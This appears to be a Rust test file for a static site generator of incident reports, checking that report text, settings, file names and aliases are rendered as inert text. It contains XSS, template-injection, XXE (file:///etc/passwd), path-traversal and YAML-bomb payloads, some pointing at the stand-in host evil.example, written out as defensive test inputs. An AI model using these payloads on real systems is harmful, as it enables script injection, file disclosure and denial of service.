//! Report text is text: whatever a report, a file name or the settings say, every page shows it and none obeys it.
//!
//! The elements, attributes and addresses that a page may hold are those of [`rules`]; what comes on top here is that a
//! payload is shown, whole and as written.

use std::fmt::Write as _;

use crate::archive::{Archive, Site};
use crate::markup::Page;
use crate::rules;

/// Text that is something else to a browser, a template engine or a terminal.
const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "</title></head><body><script>alert(1)</script>",
    "</h1></main><script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)><a xlink:href=\"javascript:alert(1)\">",
    "\"><iframe src=\"https://evil.example\"></iframe>",
    "' onmouseover='alert(1)' x='",
    "\" autofocus onfocus=\"alert(1)\" x=\"",
    "<a href=\"javascript:alert(1)\">here</a>",
    "<style>*{display:none}</style><link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<base href=https://evil.example/><form action=//evil.example>",
    "]]><script>alert(1)</script><![CDATA[",
    "--><script>alert(1)</script><!--",
    "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
    "&lt;script&gt; &#60;script&#62; &amp;amp; &nbsp &copy",
    "{{ 7 * 7 }} {{ site.title | safe }} {% include \"base.html\" %} {# gone #}",
    "{% raw %}{% endraw %} {{ <links items={[]} /> }} {%- set x = 1 -%}",
    "<%= 7 * 7 %> ${7 * 7} #{7 * 7} {{{x}}} @{x} <?php echo 7 ?>",
    "Vec<u8> and <hostname> & <your name here>",
    "a\u{202E}b\u{2066}c\u{200F}d",
    "%3Cscript%3E ../../%2e%2e/etc/passwd",
    "\\\" \\u003cscript\\u003e \\x3c",
];

/// A report with a payload wherever a report states something, its title in the front matter.
fn stated(payload: &str, day: usize) -> String {
    // A JSON string is a double-quoted YAML scalar.
    let quoted = serde_json::to_string(payload).unwrap();
    let cell = payload.replace('|', "\\|");
    format!(
        "---\ntitle: {quoted}\ndate: 2024-02-{day:02}\nseverity: {quoted}\napplications: [{quoted}]\nowner: {quoted}\n\
         author: {quoted}\nroot_causes: [{quoted}, dns]\ncomponents: [{quoted}]\nzone: {quoted}\nown key: {quoted}\n\
         aliases: [{quoted}]\n---\n\n\
         **Impact:** {payload}\n\n**Duration:** {payload}\n\n**Affected:** {payload}\n\n\
         ## Timeline\n\n| Time | What |\n|---|---|\n| 10:00 | {cell} |\n| 10:30 {cell} | end |\n\n- 11:00 {payload}\n\n\
         ## Root cause\n\nDNS: {payload}\n\n## Actions\n\n- [ ] {payload} (@{payload})\n- [x] Mend it [{payload}]\n\n\
         | Action | Owner | Due | State |\n|---|---|---|---|\n| {cell} | {cell} | {cell} | {cell} |\n| Act | {cell} | 2024-03-01 | open |\n\n\
         ## Who\n\n- Incident commander: {payload}\n- Scribe: {payload}\n"
    )
}

/// A report with a payload wherever Markdown has a place for one.
fn written(payload: &str, day: usize) -> String {
    let line = payload.replace('`', "'");
    format!(
        "# {payload}\n\nDate: 2024-01-{day:02}\n\n## {payload} {{#{payload}}}\n\n{payload}\n\n> {payload}\n\n- {payload}\n\n1. {payload}\n\n\
         {payload}\n===\n\n    {payload}\n\n```{line}\n{payload}\n```\n\n`{line}` *{payload}* **{payload}** ~~{payload}~~\n\n\
         [{payload}](x.md \"{payload}\") [x]({payload}) [x](<{payload}>) [x](https://evil.example/{payload})\n\n\
         ![{payload}](x.png '{payload}') ![x]({payload}) ![x](https://evil.example/{payload})\n\n\
         [x][r] [^n] <{payload}> https://evil.example/{payload}\n\n[r]: <{payload}> \"{payload}\"\n\n[^n]: {payload}\n\n\
         | {line} | b |\n|---|---|\n| {line} | {line} |\n\n<div>\n{payload}\n</div>\n\n<p title=\"{payload}\">{payload}</p>\n\n\
         <details><summary>{payload}</summary>\n\n{payload}\n\n</details>\n\n> [!NOTE]\n> {payload}\n"
    )
}

fn page(site: &Site, path: &str) -> Page {
    rules::read_page(site.text(path).as_bytes()).unwrap_or_else(|error| panic!("{path}: {error}"))
}

/// What a page shows in place of a payload: the marks that reorder text are named.
fn shown(payload: &str) -> String {
    payload.replace('\u{202E}', "[U+202E]").replace('\u{2066}', "[U+2066]")
}

/// Every payload on a page of its own, in both forms.
fn archive() -> Archive {
    let archive =
        Archive::new(&[("book.toml", "[book]\nsrc = \"content\"\n[feeds]\nfull-text = true\nlimit = 1000\n")]);
    for (at, payload) in PAYLOADS.iter().enumerate() {
        archive.write(&format!("content/stated-{at}.md"), stated(payload, at + 1));
        archive.write(&format!("content/written-{at}.md"), written(payload, at + 1));
    }
    archive
}

#[test]
fn payloads_stay_text() {
    let archive = archive();
    let site = archive.build();
    rules::check(&site);
    for (at, payload) in PAYLOADS.iter().enumerate() {
        let (stated, written) = (format!("stated-{at}.md"), format!("written-{at}.md"));
        let title = |page: &Page| page.elements.iter().find(|element| element.name == "h1").unwrap().text.clone();
        // A title of the front matter is what it says, on the page, in the lists, in the feed and in the record.
        let path = site.page_of(&stated);
        assert_eq!(title(&page(&site, &path)), shown(payload), "{stated}");
        for list in ["index.html", "incidents/index.html", "feed.xml"] {
            let text = if list == "feed.xml" { xml_text(&site) } else { page(&site, list).text };
            // The first page shows the latest only.
            assert!(list == "index.html" || text.contains(&shown(payload)), "{payload} is not in {list}");
        }
        let (_, record) = site.incidents().into_iter().find(|(_, record)| record["source"] == stated.as_str()).unwrap();
        assert_eq!(record["title"], *payload);
        for source in [stated, written] {
            source_is_shown(&archive, &site, &source);
        }
    }
}

fn xml_text(site: &Site) -> String {
    let feed = site.text("feed.xml").split_once('\n').unwrap().1;
    crate::markup::read(feed).unwrap().text
}

/// The source view shows the report as it is.
fn source_is_shown(archive: &Archive, site: &Site, source: &str) {
    let page = page(site, &site.page_of(source));
    let view =
        page.elements.iter().find(|element| element.name == "pre" && element.get("class") == Some("source")).unwrap();
    let text = std::fs::read_to_string(archive.path("content").join(source)).unwrap();
    assert_eq!(view.text, shown(&text), "{source}");
}

#[test]
fn what_a_report_says_leads_nowhere_but_from_its_own_text() {
    let site = archive().build();
    for path in site.paths().into_iter().filter(|path| path.ends_with(".html")) {
        let page = page(&site, path);
        for (at, element) in page.elements.iter().enumerate() {
            let in_report = page.ancestors(at).any(|around| around.name == "article");
            let address = element.get("href").or(element.get("src")).unwrap_or_default();
            assert!(in_report || !address.contains("evil.example"), "{path}: {element:?}");
        }
    }
}

#[test]
fn settings_are_text() {
    // Four at a time: each costs a build.
    for payload in PAYLOADS.chunks(4).map(|some| some.join(" ")) {
        let payload = &payload;
        let quoted = serde_json::to_string(payload).unwrap();
        let settings = format!(
            "[book]\ntitle = {quoted}\ndescription = {quoted}\nauthors = [{quoted}]\n[archive]\naudience = {quoted}\n\
             [feeds]\ntitle = {quoted}\n[applications]\n{quoted} = {{ aliases = [\"queue\"], description = {quoted}, team = {quoted} }}\n\
             [people.names]\n{quoted} = {{ aliases = [\"Ada M\"], team = {quoted} }}\n[teams]\n{quoted} = {{ aliases = [\"Queues\"] }}\n\
             [severities]\nSEV1 = {{ label = {quoted}, words = [\"P1\"] }}\n[causes.cause.dns]\nlabel = {quoted}\ndefinition = {quoted}\n\
             [extra]\nnote = {quoted}\n"
        );
        let report = "---\ndate: 2024-02-01\nseverity: P1\napplications: [queue]\nroot_causes: [dns]\n---\n\n# Backlog\n\n## Actions\n\n- [ ] Add an alert (Ada M)\n- [ ] Drain it (Queues)\n";
        let archive = Archive::new(&[("book.toml", &settings), ("content/a.md", report)]);
        let site = archive.build();
        rules::check(&site);
        let home = page(&site, "index.html");
        let name = home.elements.iter().find(|element| element.get("class") == Some("site-name")).unwrap();
        assert_eq!(name.text, shown(payload));
    }
}

#[test]
fn template_syntax_is_shown_as_written() {
    let syntax = "{{ 7 * 7 }} {{ site.title }} {% if true %}x{% endif %} {# y #}";
    let archive = Archive::new(&[(
        "a.md",
        &format!("# {syntax}\n\nDate: 2024-02-01\n\n{syntax}\n\n## Actions\n\n- [ ] {syntax}\n"),
    )]);
    let site = archive.build();
    let text = page(&site, &site.page_of("a.md")).text;
    assert!(!text.contains("49"), "{text}");
    // In the title, the crumbs or the heading, the text, the action, and the source.
    assert!(text.matches(syntax).count() >= 5, "{text}");
}

#[cfg(unix)]
#[test]
fn names_of_files_are_text() {
    let names = [
        "a\"b'c.md",
        "<img src=x onerror=alert(1)>.md",
        "a b.md",
        "größe – 障害.md",
        "a..md",
        "a&amp;b.md",
        "a#b?c.md",
        "100%41.md",
        "{{ 7 * 7 }}.md",
        "a\u{202E}b.md",
        "a\nb.md",
        "javascript:alert(1).md",
        "con.md",
        "-rf.md",
        "a\\b.md",
        "<b>/<i>.md",
        "%2e%2e/x.md",
    ];
    let archive = Archive::new(&[]);
    for (at, name) in names.iter().enumerate() {
        archive.write(&format!("content/{name}"), format!("# Outage {at}\n\nDate: 2024-02-01\n"));
    }
    archive.write("book.toml", "[output.html]\nedit-url-template = \"https://git.example/edit/{path}#{line}\"\n");
    let run = archive.annals(&["build"]).run().published();
    let site = archive.site("public");
    rules::check(&site);
    let account = run.account();
    assert!(account.adds_up() && account.found == names.len(), "{account:?}");
    assert_eq!(account.pages + account.skipped, names.len());
    let sources: Vec<_> =
        site.incidents().into_iter().map(|(_, record)| record["source"].as_str().unwrap().to_owned()).collect();
    for name in names {
        assert!(sources.iter().any(|source| source == name) || run.err.contains("scan-path"), "{name:?} is lost");
    }
}

#[test]
fn a_report_names_files_of_the_archive_only() {
    let archive = Archive::new(&[
        ("secret.png", "secret"),
        ("book.toml", ""),
        (
            "content/2024/a.md",
            "# Outage\n\nDate: 2024-02-01\n\n![a](../../secret.png) ![b](/../secret.png) ![c](..%2f..%2fsecret.png) ![d](/etc/passwd)\n\
             [e](../../book.toml) [f](file:///etc/passwd) [g](../../../../../../etc/passwd) ![h](graph.png) [i](../2024/./graph.png) [j](a.exe)\n",
        ),
        ("content/2024/graph.png", "graph"),
        ("content/2024/other.png", "other"),
        ("content/2024/a.exe", "program"),
    ]);
    let site = archive.build();
    rules::check(&site);
    let files: Vec<_> = site.paths().into_iter().filter(|path| path.starts_with("files/")).collect();
    assert_eq!(files, ["files/2024/graph.png"]);
    assert!(site.files.values().all(|bytes| !bytes.windows(6).any(|part| part == b"secret" && bytes.len() == 6)));
}

#[cfg(unix)]
#[test]
fn a_link_on_disk_is_no_way_to_a_file_outside() {
    let archive = Archive::new(&[
        ("secret.png", "secret"),
        ("book.toml", ""),
        ("content/a.md", "# Outage\n\nDate: 2024-02-01\n\n![x](x.png) ![y](d/secret.png)\n"),
    ]);
    std::os::unix::fs::symlink("../secret.png", archive.path("content/x.png")).unwrap();
    std::os::unix::fs::symlink("..", archive.path("content/d")).unwrap();
    let site = archive.build();
    rules::check(&site);
    assert_eq!(site.paths().into_iter().filter(|path| path.starts_with("files/")).count(), 0);
}

#[test]
fn no_alias_leaves_the_site_or_takes_a_file_of_it() {
    let long = format!("/{}/", "x".repeat(300));
    let deep = "/y".repeat(700);
    let aliases = [
        "../up/",
        "/../up/",
        "/a/../../up/",
        "//evil.example/x/",
        "https://evil.example/",
        "javascript:alert(1)",
        "",
        "/",
        "index.html",
        "/404.html",
        "/feed.xml",
        "/feed.xml/",
        "/incidents.json",
        "/assets/site.css",
        "/.annals-manifest",
        "/.git/config",
        "/con/",
        "/nul.html",
        "/a:b/",
        "/a?b",
        "/trailing. /",
        "/dots./",
        "/a*b/",
        "/tab\tand\u{0}nul/",
        "/robots.txt",
        "/CNAME",
        "/fine/",
        "/fine",
        "/fine/below/",
        "/page.html",
        "/page.html/below/",
        "/<script>/",
        "/Große Störung/",
        "/incidents/",
        "/about/index.html",
        "/{{ 7 * 7 }}/",
        &long,
        &deep,
    ];
    let list = aliases.iter().fold(String::new(), |mut list, alias| {
        let _ = writeln!(list, "  - {}", serde_json::to_string(alias).unwrap());
        list
    });
    let archive = Archive::new(&[
        ("book.toml", ""),
        ("content/a.md", &format!("---\ntitle: Outage\ndate: 2024-02-01\naliases:\n{list}---\n\nText.\n")),
    ]);
    let outside = archive.everything();
    archive.annals(&["build"]).run().published();
    let site = archive.site("public");
    rules::check(&site);
    for fine in ["fine/index.html", "page.html"] {
        assert!(site.text(fine).contains("http-equiv=\"refresh\""), "{fine}");
    }
    let inside = |path: &String| path.starts_with("archive/public/") || path == "archive/.public.annals-lock";
    let after: Vec<_> = archive.everything().into_keys().filter(|path| !inside(path)).collect();
    assert_eq!(after, outside.into_keys().collect::<Vec<_>>());
}

#[cfg(unix)]
#[test]
fn images_with_odd_names_are_published() {
    let names = [
        "a\"b.png",
        "a<b>.png",
        "a:b.png",
        "a?b.png",
        "a#b.png",
        "a%b.png",
        "a*b.png",
        "a|b.png",
        "a b.png",
        "ä.png",
        "con.png",
        "x..png",
        " a.png",
        "12:30/a.png",
        "trail./a.png",
        "aux/a.png",
    ];
    let archive = Archive::new(&[("book.toml", "")]);
    let mut report = String::from("# Outage\n\nDate: 2024-02-01\n\n");
    for name in names {
        archive.write(&format!("content/{name}"), "pixels");
        let encoded: String = name.bytes().map(|byte| format!("%{byte:02X}")).collect::<String>().replace("%2F", "/");
        let _ = writeln!(report, "![alt of {name}]({encoded})\n");
    }
    archive.write("content/a.md", report);
    archive.annals(&["build"]).run().published();
    let site = archive.site("public");
    rules::check(&site);
    let published: Vec<_> = site.paths().into_iter().filter(|path| path.starts_with("files/")).collect();
    assert_eq!(published.len(), names.len(), "{published:?}");
    for as_it_is in ["files/a#b.png", "files/a%b.png", "files/a b.png", "files/ä.png"] {
        assert!(published.contains(&as_it_is), "{as_it_is}");
    }
}

/// The time that any of these may take in the dev profile on a busy machine.
const PATIENCE: std::time::Duration = std::time::Duration::from_secs(300);

#[test]
fn size_and_depth_cost_time_in_proportion() {
    let n = 20_000;
    let bomb = {
        let mut bomb = String::from("---\na: &a [x, x, x, x, x, x, x, x, x]\n");
        for (name, below) in ('b'..='i').zip('a'..) {
            let _ = writeln!(bomb, "{name}: &{name} [{}]", vec![format!("*{below}"); 9].join(", "));
        }
        bomb + "title: *i\n---\n\n# Outage\n\nDate: 2024-02-01\n"
    };
    let reports = [
        ("bomb.md", bomb),
        ("flow.md", format!("---\na: {}\n---\n\n# Outage\n", "[".repeat(n))),
        ("flow-map.md", format!("---\na: {}\n---\n\n# Outage\n", "{a: ".repeat(n))),
        ("json.md", format!("{{\"a\": {}\n\n# Outage\n", "[".repeat(n))),
        ("toml.md", format!("+++\na = {}\n+++\n\n# Outage\n", "[".repeat(n))),
        ("anchors.md", format!("---\na: {}x\n---\n\n# Outage\n", "&a ".repeat(n))),
        ("quotes.md", format!("# Outage\n\n{}x\n", "> ".repeat(n))),
        ("lists.md", format!("# Outage\n\n{}x\n", "- ".repeat(n))),
        ("brackets.md", format!("# Outage\n\n{}\n", "[".repeat(n))),
        ("stars.md", format!("# Outage\n\n{}\n", "*a **b ".repeat(n))),
        ("tags.md", format!("# Outage\n\n{}\n", "<b>".repeat(n))),
        ("details.md", format!("# Outage\n\n{}\n", "<details>\n\n".repeat(n))),
        ("headings.md", format!("# Outage\n\n{}", "## Actions\n\n- [ ] x\n\n".repeat(n / 10))),
        ("notes.md", format!("# Outage\n\n{}", (0..n / 10).map(|i| format!("[^{i}]: y [^{i}]\n")).collect::<String>())),
        ("cells.md", format!("# Outage\n\n{0}\n{1}\n{0}\n", "|a".repeat(n / 10), "|-".repeat(n / 10))),
        ("timeline.md", format!("# Outage\n\n2024-02-01\n\n## Timeline\n\n{}", "- 10:00 x\n".repeat(n / 10))),
        (
            "line.md",
            format!("# Outage\n\n{}\n", "word 10:00 <b> [x](y.md) 2024-01-01 ".repeat(60_000))[..2 * 1024 * 1024]
                .to_owned(),
        ),
        ("links.md", format!("# Outage\n\n{}\n", "[x](y.md) ".repeat(n))),
        ("dates.md", format!("# Outage\n\n{}\n", "2024-02-01 10:00 UTC ".repeat(n / 4))),
        ("durations.md", format!("# Outage\n\n{}\n", "for 2 hours 3 minutes ".repeat(n / 4))),
        ("title.md", format!("# {}\n", "very long ".repeat(n))),
        ("nul.md", "# Outage\n\nNUL \u{0} and ESC \u{1b}[31m and DEL \u{7f}\n".to_string()),
    ];
    let archive = Archive::new(&[]);
    for (name, text) in &reports {
        archive.write(name, text);
    }
    let began = std::time::Instant::now();
    let account = archive.annals(&["build"]).run().published().account();
    assert!(began.elapsed() < PATIENCE, "{:?}", began.elapsed());
    assert_eq!((account.found, account.pages, account.skipped), (reports.len(), reports.len(), 0));
    rules::check(&archive.site("public"));
}

#[test]
fn many_names_on_one_line_make_no_site_of_their_own() {
    let names: Vec<String> = (0..2000).map(|number| format!("svc{number}")).collect();
    let archive = Archive::new(&[(
        "a.md",
        &format!("# Outage\n\nDate: 2024-02-01\n\n**Affected services:** {}\n", names.join(", ")),
    )]);
    let site = archive.build();
    let size: usize = site.files.values().map(Vec::len).sum();
    // A page for each name, and no page that names all but those of the report and of the list.
    assert!(size < 25_000_000, "{size} bytes");
}
